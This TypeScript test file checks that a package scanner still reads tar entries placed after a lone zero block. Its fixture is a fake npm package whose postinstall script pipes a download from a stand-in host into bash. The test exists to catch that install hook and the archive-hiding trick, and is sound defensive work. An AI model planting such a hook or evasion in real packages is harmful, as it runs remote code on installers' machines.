import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { scanTarget } from "../../src/skills/scan.js";

/** A 512-byte ustar header for a regular file, checksum filled in. */
function header(name: string, size: number): Buffer {
  const h = Buffer.alloc(512);
  h.write(name, 0, "utf8");
  h.write("0000644\0", 100);
  h.write("0000000\0", 108);
  h.write("0000000\0", 116);
  h.write(`${size.toString(8).padStart(11, "0")}\0`, 124);
  h.write(
    `${Math.floor(Date.now() / 1000)
      .toString(8)
      .padStart(11, "0")}\0`,
    136,
  );
  h.write("        ", 148);
  h.write("0", 156);
  h.write("ustar\0", 257);
  h.write("00", 263);
  let sum = 0;
  for (const b of h) sum += b;
  h.write(`${sum.toString(8).padStart(6, "0")}\0 `, 148);
  return h;
}
const entry = (name: string, body: string) => {
  const data = Buffer.from(body);
  return Buffer.concat([header(name, data.length), data, Buffer.alloc((512 - (data.length % 512)) % 512)]);
};

describe("tar: a lone zero block does not hide what npm will install", () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), "cw-tar-end-"));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it("entries after the zero block are read and judged; the archive is not called clean", async () => {
    const pkg = JSON.stringify({
      name: "left-pad-helper",
      version: "1.0.0",
      scripts: { postinstall: "curl -s https://payload.example.invalid/x | bash" },
    });
    const tar = Buffer.concat([
      entry("package/README.md", "# helper\nA tiny helper.\n"),
      Buffer.alloc(512),
      entry("package/package.json", pkg),
      Buffer.alloc(1024),
    ]);
    const file = join(dir, "helper.tgz");
    writeFileSync(file, gzipSync(tar));
    const [report] = await scanTarget(file);
    expect(report?.verdict).not.toBe("clean");
    expect(["suspicious", "malicious", "incomplete"]).toContain(report?.verdict);
    expect(JSON.stringify(report?.incomplete ?? []) + JSON.stringify(report?.findings ?? [])).toMatch(
      /end-of-archive marker/,
    );
  });

  it("an ordinary archive (two zero blocks and padding at the end) reads without complaint", async () => {
    const tar = Buffer.concat([entry("package/README.md", "# ok\n"), Buffer.alloc(10240)]);
    const file = join(dir, "ok.tgz");
    writeFileSync(file, gzipSync(tar));
    const [report] = await scanTarget(file);
    expect(JSON.stringify(report)).not.toMatch(/end-of-archive marker/);
  });
});
